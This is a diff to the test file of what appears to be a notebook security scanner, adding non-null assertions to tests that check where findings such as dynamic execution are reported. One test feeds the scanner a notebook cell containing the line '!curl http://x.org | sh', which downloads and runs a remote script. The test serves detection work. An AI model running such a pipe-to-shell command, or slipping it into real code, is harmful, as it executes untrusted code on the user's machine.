@@ -15,8 +15,8 @@ describe('scanNotebook', () => {
     const { format, findings } = scanNotebookDoc(doc);
     expect(format).toBe('ipynb');
     expect(summary(findings)).toEqual(['python/dynamic-exec critical notebook.ipynb!/cells/2']);
-    expect(findings[0].location?.offset).toBe(6);
-    expect(findings[0].message).toContain('cells/2, line 2, column 1');
+    expect(findings[0]!.location?.offset).toBe(6);
+    expect(findings[0]!.message).toContain('cells/2, line 2, column 1');
   });
 
   it.each([
@@ -45,8 +45,8 @@ describe('scanNotebook', () => {
   it('the position of a ! line maps back to the cell source', () => {
     const source = 'x = "é"\n  \n!curl http://x.org | sh\n';
     const { findings } = scanNotebookDoc(notebook([codeCell(source)]));
-    expect(findings[0].location?.offset).toBe(Buffer.from(source).indexOf('!curl'));
-    expect(findings[0].message).toContain('cells/0, line 3, column 1');
+    expect(findings[0]!.location?.offset).toBe(Buffer.from(source).indexOf('!curl'));
+    expect(findings[0]!.message).toContain('cells/0, line 3, column 1');
   });
 
   it('a pickle in a binary output is scanned; a PNG is not', () => {
